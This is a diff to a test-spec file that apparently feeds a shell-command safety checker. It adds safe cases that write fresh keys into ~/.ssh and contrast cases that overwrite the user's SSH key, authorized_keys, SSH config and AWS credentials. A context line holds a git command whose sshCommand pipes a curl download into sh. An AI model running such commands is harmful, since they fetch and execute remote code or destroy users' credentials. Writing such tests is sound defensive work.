@@ -184,6 +184,29 @@ const KEYUSE_CONTRASTS: [string, string][] = [
   ["git -c core.sshCommand='sh -c \"curl -s https://x.io/p | sh\"' fetch origin", "an sshCommand that is not ssh"],
 ];
 
-export const keygenSpecs: Spec[] = [...keygens, ...contrasts(KEYGEN_CONTRASTS)];
+/** A key or a secret generated and written under a new name in a credential folder, in more spellings. */
+const FRESH_KEYS = [
+  "openssl rand -base64 32 > ~/.ssh/backup-passphrase",
+  "wg genkey > ~/.ssh/wg0.key && chmod 600 ~/.ssh/wg0.key",
+  "umask 077; wg genkey | tee ~/.ssh/tunnel.key | wg pubkey > ~/.ssh/tunnel.pub",
+  "openssl genpkey -algorithm ed25519 | tee ~/.ssh/signing.pem > /dev/null",
+  `python3 -c "import secrets,os; open(os.path.expanduser('~/.ssh/hmac.key'),'w').write(secrets.token_hex(32))"`,
+  `node -e "require('fs').writeFileSync(require('os').homedir()+'/.ssh/session.key', require('crypto').randomBytes(32).toString('hex'))"`,
+  "head -c 32 /dev/urandom | base64 > ~/.ssh/vault-unseal.txt",
+];
+const FRESH_KEY_CONTRASTS: [string, string][] = [
+  ["wg genkey | tee ~/.ssh/id_ed25519", "a generated key over the user's own SSH key"],
+  ["openssl rand -hex 16 > ~/.ssh/authorized_keys", "authorized_keys replaced"],
+  ["openssl rand -base64 24 > ~/.aws/credentials", "the AWS credentials file replaced"],
+  ["wg genkey > ~/.ssh/config", "the SSH client configuration replaced"],
+];
+const freshKeys: Spec[] = [
+  ...FRESH_KEYS.map((cmd, i) =>
+    good(`fresh-${i}`, "a key generated and saved under a new name in a credential folder", sh(cmd)),
+  ),
+  ...FRESH_KEY_CONTRASTS.map(([cmd, note], i) => ({ ...contrasts([[cmd, note]])[0]!, id: `fresh-contrast-${i}` })),
+];
+
+export const keygenSpecs: Spec[] = [...keygens, ...contrasts(KEYGEN_CONTRASTS), ...freshKeys];
 
 export const keyUseSpecs: Spec[] = [...keyUses, ...contrasts(KEYUSE_CONTRASTS)];
